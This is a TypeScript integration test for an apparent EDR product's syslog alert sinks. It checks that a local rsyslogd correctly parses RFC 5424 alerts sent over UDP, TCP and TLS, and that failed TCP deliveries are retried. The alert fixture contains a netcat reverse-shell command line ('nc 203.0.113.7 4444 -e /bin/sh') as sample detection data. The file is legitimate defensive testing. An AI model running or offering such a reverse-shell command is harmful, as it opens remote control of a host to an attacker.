// Syslog sinks against a real peer: Debian's rsyslogd, run on loopback with a generated configuration in a temporary
// directory, receiving over UDP (imudp), TCP (imtcp, RFC 6587 octet counting) and TLS (imtcp with the gtls driver,
// RFC 5425, a certificate from a test CA the sink trusts through options.ca_pem). rsyslog parses each RFC 5424
// message itself and writes the fields it parsed (version, PRI, hostname, app-name, msgid, structured data, msg)
// to one file per transport, which the test reads: the peer's parse is what is checked, not ours.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { AlertDispatcher } from '../../src/alerts/dispatcher.ts';
import { issueServerCertificate, loadOrCreateCa } from '../../src/pki/pki.ts';
import { alertDoc, sinkOf, tempSinks, until, type TempSinks } from './support.ts';

const RSYSLOGD = '/usr/sbin/rsyslogd';
const dir = mkdtempSync(join(tmpdir(), 'vigil-rsyslog-'));
let rsyslog: ChildProcess | undefined;
let caPem = '';
const ports = { udp: 0, tcp: 0, tls: 0 };

async function freeTcpPort(): Promise<number> {
  const s = createServer();
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  const port = (s.address() as AddressInfo).port;
  await new Promise((r) => s.close(r));
  return port;
}

async function freeUdpPort(): Promise<number> {
  const s = createSocket('udp4');
  await new Promise<void>((r) => s.bind(0, '127.0.0.1', r));
  const port = s.address().port;
  await new Promise<void>((r) => s.close(() => r()));
  return port;
}

/** rsyslog's own parse of each message: one line per message, fields separated by SEP. */
const SEP = '~#~';
const FIELDS = ['protocol-version', 'pri', 'hostname', 'app-name', 'procid', 'msgid', 'structured-data', 'msg'];

function config(): string {
  const template = FIELDS.map((f) => `property(name="${f}")`).join(` constant(value="${SEP}") `);
  const ruleset = (name: string) => `ruleset(name="${name}") { action(type="omfile" file="${join(dir, `${name}.log`)}" template="fields") }`;
  return `
global(workDirectory="${dir}" maxMessageSize="64k"
  defaultNetstreamDriverCAFile="${join(dir, 'ca.pem')}" defaultNetstreamDriverCertFile="${join(dir, 'server.pem')}" defaultNetstreamDriverKeyFile="${join(dir, 'server.key')}")
module(load="imudp")
module(load="imtcp" maxSessions="50")
template(name="fields" type="list") { ${template} constant(value="\\n") }
${ruleset('udp')}
${ruleset('tcp')}
${ruleset('tls')}
input(type="imudp" address="127.0.0.1" port="${ports.udp}" ruleset="udp")
input(type="imtcp" address="127.0.0.1" port="${ports.tcp}" ruleset="tcp")
input(type="imtcp" address="127.0.0.1" port="${ports.tls}" ruleset="tls" streamDriver.name="gtls" streamDriver.mode="1" streamDriver.authMode="anon")
`;
}

before(async () => {
  mkdirSync(join(dir, 'pki'));
  const ca = await loadOrCreateCa(join(dir, 'pki'), 'Vigil test syslog CA');
  caPem = ca.certPem;
  const server = await issueServerCertificate(ca, ['localhost', '127.0.0.1']);
  writeFileSync(join(dir, 'ca.pem'), ca.certPem);
  writeFileSync(join(dir, 'server.pem'), server.certPem);
  writeFileSync(join(dir, 'server.key'), server.keyPem, { mode: 0o600 });
  Object.assign(ports, { udp: await freeUdpPort(), tcp: await freeTcpPort(), tls: await freeTcpPort() });
  writeFileSync(join(dir, 'rsyslog.conf'), config());
  let stderr = '';
  rsyslog = spawn(RSYSLOGD, ['-n', '-f', join(dir, 'rsyslog.conf'), '-i', join(dir, 'rsyslog.pid')], { stdio: ['ignore', 'pipe', 'pipe'] });
  rsyslog.stderr!.on('data', (c: Buffer) => { stderr += c.toString(); });
  rsyslog.stdout!.on('data', (c: Buffer) => { stderr += c.toString(); });
  // Ready when both TCP ports accept.
  await until(`rsyslogd listening (${stderr})`, async () => {
    const ok = await Promise.all([ports.tcp, ports.tls].map((port) => new Promise<boolean>((r) => {
      const s = createServer().listen(port, '127.0.0.1', () => s.close(() => r(false))).on('error', () => r(true));
    })));
    return ok.every(Boolean);
  }, 10_000);
});

after(async () => {
  if (rsyslog?.pid) {
    rsyslog.kill('SIGTERM');
    await new Promise((r) => rsyslog!.once('exit', r));
  }
  rmSync(dir, { recursive: true, force: true });
});

interface Parsed { version: string; pri: string; hostname: string; app: string; msgid: string; sd: string; msg: string }

function parsedBy(transport: string): Parsed[] {
  const file = join(dir, `${transport}.log`);
  if (!existsSync(file)) return [];
  return readFileSync(file, 'utf8').split('\n').filter(Boolean).map((line) => {
    const [version, pri, hostname, app, , msgid, sd, msg] = line.split(SEP);
    return { version, pri, hostname, app, msgid, sd, msg };
  });
}

test('rsyslogd parses the RFC 5424 messages of the UDP, TCP (octet counting) and TLS sinks', { timeout: 60_000 }, async () => {
  let t: TempSinks | undefined;
  const dispatcher = await (async () => {
    t = await tempSinks('vigil-rsyslog-store-');
    for (const transport of ['udp', 'tcp', 'tls'] as const) {
      await t.store.create(sinkOf({
        name: transport, type: 'syslog', url: `${transport}://localhost:${ports[transport]}`, format: transport === 'udp' ? 'text' : 'cef',
        options: transport === 'tls' ? { ca_pem: caPem } : {},
      }));
    }
    return new AlertDispatcher({ sinks: t.store, outbox: t.store, log: pino({ level: 'silent' }) }, { allowPrivateTargets: true, pollMs: 20, hostname: 'vigil-test-host', repeatWindowMs: 0 });
  })();
  try {
    dispatcher.start();
    for (let i = 1; i <= 5; i++) await dispatcher.enqueue(alertDoc(i, { rule: { id: 'vigil-netcat-reverse-shell', title: 'Netcat "reverse" shell [nc]', author: 'Vigil', level: i === 5 ? 'critical' : 'high' } }));
    await until('every delivery made', async () => {
      const all = (await Promise.all([1, 2, 3, 4, 5].map((i) => t!.store.forAlert('t1', `alert-${i}`)))).flat();
      return all.length === 15 && all.every((d) => d.state === 'delivered');
    });
    for (const transport of ['udp', 'tcp', 'tls']) {
      const got = await until(`rsyslog wrote the ${transport} messages`, () => { const p = parsedBy(transport); return p.length >= 5 && p; }, 10_000);
      assert.equal(got.length, 5, `${transport}: one message per alert (octet counting keeps frames apart)`);
      // Deliveries of one sink go out together: the order of arrival is not the order of the alerts.
      assert.deepEqual(got.map((p) => /alert_id="alert-(\d)"/.exec(p.sd)?.[1]).sort(), ['1', '2', '3', '4', '5'], `${transport}: every alert once`);
      for (const p of got) {
        const i = Number(/alert_id="alert-(\d)"/.exec(p.sd)![1]) - 1;
        assert.equal(p.version, '1', transport);
        assert.equal(p.pri, i === 4 ? String(4 * 8 + 2) : String(4 * 8 + 3), `${transport}: facility security, severity from the level`);
        assert.equal(p.hostname, 'vigil-test-host');
        assert.equal(p.app, 'vigil');
        assert.equal(p.msgid, i === 4 ? 'alert.critical' : 'alert.high');
        assert.match(p.sd, /^\[vigil@32473 /, `${transport}: structured data parsed by rsyslog: ${p.sd}`);
        for (const field of [`alert_id="alert-${i + 1}"`, 'rule_id="vigil-netcat-reverse-shell"', 'rule_title="Netcat \\"reverse\\" shell [nc\\]"', 'rule_author="Vigil"',
          'mitre="T1059.004,T1095"', `host="web-${i + 1}.example"`, 'user="www-data"', 'command_line="/usr/bin/nc 203.0.113.7 4444 -e /bin/sh"',
          'file_path="/tmp/.x/payload"', 'destination="203.0.113.7:4444"']) {
          assert.ok(p.sd.includes(field), `${transport}: ${field} in ${p.sd}`);
        }
        if (transport === 'udp') assert.match(p.msg, /\[(high|critical)\] Netcat "reverse" shell \[nc\] on web-\d\.example \(user www-data\): \/usr\/bin\/nc/);
        else assert.match(p.msg, /CEF:0\|Vigil\|Vigil EDR\|1\.0\|vigil-netcat-reverse-shell\|Netcat "reverse" shell \[nc\]\|(8|10)\|.*duser=www-data/);
      }
    }
  } finally {
    await dispatcher.close();
    await t?.dispose();
  }
});

test('a stopped peer fails TCP delivery (retried), and a restarted one receives it', { timeout: 30_000 }, async () => {
  const t = await tempSinks('vigil-rsyslog-down-');
  const port = await freeTcpPort(); // nothing listens
  const sink = await t.store.create(sinkOf({ type: 'syslog', url: `tcp://127.0.0.1:${port}`, format: 'cef' }));
  const dispatcher = new AlertDispatcher({ sinks: t.store, outbox: t.store, log: pino({ level: 'silent' }) }, { allowPrivateTargets: true, pollMs: 20, baseDelayMs: 50, maxDelayMs: 100, timeoutMs: 1000 });
  const received: string[] = [];
  const peer = createServer((s) => s.on('data', (c: Buffer) => received.push(c.toString())));
  try {
    dispatcher.start();
    await dispatcher.enqueue(alertDoc(42));
    const failed = await until('a failed attempt', async () => { const [d] = await t.store.forAlert('t1', 'alert-42'); return d.attempts >= 1 && d; });
    assert.equal(failed.state, 'pending');
    assert.match(failed.lastError ?? '', /ECONNREFUSED/);
    await new Promise<void>((r) => peer.listen(port, '127.0.0.1', r));
    await until('delivered once the peer is up', async () => (await t.store.forAlert('t1', 'alert-42'))[0].state === 'delivered');
    await until('the frame arrived', () => received.join('').length > 0);
    const frame = received.join('');
    const m = /^(\d+) /.exec(frame);
    assert.ok(m, 'octet-counted frame');
    assert.equal(Buffer.byteLength(frame) - m[0].length, Number(m[1]), 'the count is the message length in octets');
    assert.equal((await t.store.health(sink.id)).breaker, 'closed');
  } finally {
    await dispatcher.close();
    peer.close();
    await t.dispose();
  }
});
